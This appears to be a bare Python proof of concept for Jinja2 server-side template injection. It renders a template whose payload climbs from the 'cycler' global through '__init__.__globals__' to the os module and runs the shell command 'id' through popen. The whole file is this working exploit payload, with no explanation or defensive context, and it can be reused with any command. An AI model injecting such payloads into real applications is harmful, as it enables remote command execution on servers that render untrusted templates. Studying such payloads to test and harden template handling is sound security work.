import os
from jinja2 import Template

print(Template("{{ cycler.__init__.__globals__.os.popen('id').read() }}").render())
